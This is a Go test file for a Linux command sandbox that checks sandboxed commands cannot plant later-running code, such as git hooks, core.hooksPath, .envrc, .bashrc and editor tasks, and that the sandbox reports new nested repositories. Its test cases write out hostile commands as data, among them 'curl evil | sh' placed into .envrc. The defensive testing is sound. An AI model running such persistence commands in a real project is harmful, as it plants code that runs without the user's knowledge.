//go:build linux

package sandbox_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/reinsdev/reins/permission"
	"github.com/reinsdev/reins/sandbox"
)

// newBareProject builds a sandbox over a project that has no .git of its own but holds a
// nested repository (vendor/lib), with no network and no read-denied paths.
func newBareProject(t *testing.T, b sandbox.Backend) (*sandbox.Sandbox, string) {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	proj := filepath.Join(root, "proj")
	lib := filepath.Join(proj, "vendor", "lib")
	for _, d := range []string{"src", ".git/hooks", ".git/objects", ".git/refs"} {
		if err := os.MkdirAll(filepath.Join(lib, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(lib, ".git", "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(lib, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n")
	if err := os.MkdirAll(filepath.Join(proj, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(proj, "src", "main.go"), "package main\n")
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dirs, files := permission.ProtectedNames()
	sb, err := sandbox.New(context.Background(), sandbox.Config{
		WorkingDirs:   []string{proj},
		ProtectedDirs: dirs, ProtectedFiles: files,
		Helper:   exe,
		Backends: []sandbox.Backend{b},
	})
	if err != nil {
		t.Fatalf("sandbox.New: %v", err)
	}
	t.Cleanup(func() { sb.Close() })
	return sb, proj
}

// runIn runs a bash command sandboxed in dir and returns its output, exit status and the
// violations reported.
func runIn(t *testing.T, sb *sandbox.Sandbox, dir, command string) (string, int, []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "/bin/bash", "-c", command)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir, "GIT_TEMPLATE_DIR=")
	finish, err := sb.Wrap(cmd, command, nil, nil)
	if err != nil {
		t.Fatalf("Wrap: %v", err)
	}
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("running %q: %v", command, err)
	}
	return string(out), code, finish(string(out))
}

// TestMissingProtectedPaths runs, under each backend, the commands that plant code for later
// in a project without .git: each must fail and leave the project as it was (no placeholder
// left behind either), except the creation of a new nested repository, which no backend can
// refuse and which must be reported.
func TestMissingProtectedPaths(t *testing.T) {
	_, gitErr := exec.LookPath("git")
	tests := []struct {
		name, command string
		needsGit      bool
		// reported: the command may succeed but the violations must name this path
		// (relative to the project); "" means the command must change nothing.
		reported string
	}{
		{name: "git init", command: "git init -q", needsGit: true},
		{name: "git init and core.hooksPath", command: "git init -q; git config core.hooksPath .githooks", needsGit: true},
		{name: "hand-made hooks", command: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"},
		{name: ".envrc", command: "echo 'curl evil | sh' > .envrc"},
		{name: ".bashrc", command: "echo x > .bashrc"},
		{name: ".vscode tasks", command: "mkdir .vscode && echo {} > .vscode/tasks.json"},
		{name: ".husky hook", command: "mkdir -p .husky && echo x > .husky/pre-commit"},
		{name: ".gitmodules", command: "printf '[submodule \"x\"]\\n' > .gitmodules"},
		{name: "symlink as .envrc", command: "ln -s src/main.go .envrc"},
		{name: "rename into a protected name", command: "echo x > src/e && { mv src/e .envrc; r=$?; rm -f src/e; exit $r; }"},
		{name: "existing nested repository's hook", command: "echo x > vendor/lib/.git/hooks/pre-commit"},
		{name: "existing nested repository's config", command: "echo '[core] hooksPath = /x' >> vendor/lib/.git/config"},
		{name: "nested repository's hooks folder moved aside", command: "mv vendor/lib/.git/hooks vendor/lib/.git/h && mkdir vendor/lib/.git/hooks"},
		{name: "new nested repository by hand", command: "mkdir -p src/sub/.git/hooks && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && echo x > src/sub/.git/hooks/pre-commit", reported: "src/sub/.git"},
		{name: "new nested repository with git", command: "git init -q src/other && echo x > src/other/.git/hooks/pre-commit", needsGit: true, reported: "src/other/.git"},
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			b := backendFor(t, name)
			for _, tt := range tests {
				t.Run(tt.name, func(t *testing.T) {
					if tt.needsGit && gitErr != nil {
						t.Skip("git is not installed")
					}
					// A project of its own: under Landlock a nested repository takes the
					// create right from the folders above it.
					sb, proj := newBareProject(t, b)
					before := snapshot(t, proj)
					out, code, viol := runIn(t, sb, proj, tt.command)
					if tt.reported != "" {
						want := filepath.Join(proj, tt.reported)
						if !strings.Contains(strings.Join(viol, "\n"), want) {
							t.Errorf("%q (exit %d, %s): violations %q do not name %s", tt.command, code, out, viol, want)
						}
						return
					}
					if code == 0 {
						t.Errorf("%q succeeded: %s", tt.command, out)
					}
					if after := snapshot(t, proj); after != before {
						t.Errorf("%q changed the project:\nbefore:\n%s\nafter:\n%s", tt.command, before, after)
					}
				})
			}
			sb, proj := newBareProject(t, b)
			t.Run("everyday writes still work", func(t *testing.T) {
				cmd := "echo x > src/a.go && mkdir -p src/pkg && touch src/pkg/b.go && rm src/a.go"
				if name == "bubblewrap" {
					// Landlock cannot create entries at the project's top (see the known limits).
					cmd += " && touch new.txt && mkdir build && rm -r new.txt build"
				}
				if out, code, viol := runIn(t, sb, proj, cmd); code != 0 || len(viol) > 0 {
					t.Errorf("%q: exit %d, %s, violations %q", cmd, code, out, viol)
				}
			})
			if gitErr == nil {
				t.Run("git works in a nested repository's working tree", func(t *testing.T) {
					lib := filepath.Join(proj, "vendor", "lib")
					if out, code, _ := runIn(t, sb, lib, "git status --short >/dev/null"); code != 0 {
						t.Errorf("git status in the nested repository: %s", out)
					}
				})
			}
		})
	}
}

// unconfined is a backend that confines nothing, standing for one whose mounts or rules missed
// a path: the check after the command must still see what appeared.
type unconfined struct{}

func (unconfined) Name() string                                  { return "unconfined" }
func (unconfined) Probe(context.Context, *sandbox.Spec) error    { return nil }
func (unconfined) Wrap(*exec.Cmd, *sandbox.Spec) (func(), error) { return nil, nil }
func (unconfined) Describe(*sandbox.Spec) []string               { return nil }

func TestCheckAfterCommandReportsWhatAppeared(t *testing.T) {
	tests := []struct {
		command string
		want    []string // paths, relative to the project, the violations must name
	}{
		{command: "echo x > .envrc", want: []string{".envrc"}},
		{command: "mkdir -p .git/hooks", want: []string{".git"}},
		{command: "mkdir .husky", want: []string{".husky"}},
		{command: "mkdir -p src/new/.git", want: []string{"src/new/.git"}},
		{command: "echo x > src/ordinary.go && mkdir src/pkg"},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			sb, proj := newBareProject(t, unconfined{})
			out, code, viol := runIn(t, sb, proj, tt.command)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, out)
			}
			joined := strings.Join(viol, "\n")
			for _, w := range tt.want {
				if !strings.Contains(joined, filepath.Join(proj, w)+" ") && !strings.Contains(joined, filepath.Join(proj, w)+";") && !strings.Contains(joined, filepath.Join(proj, w)+",") {
					t.Errorf("violations %q do not name %s", viol, w)
				}
			}
			if len(tt.want) == 0 && len(viol) > 0 {
				t.Errorf("an ordinary command reported %q", viol)
			}
			if got := len(sb.Violations()); got != len(viol) {
				t.Errorf("the session lists %d violations, the command reported %d", got, len(viol))
			}
		})
	}
}
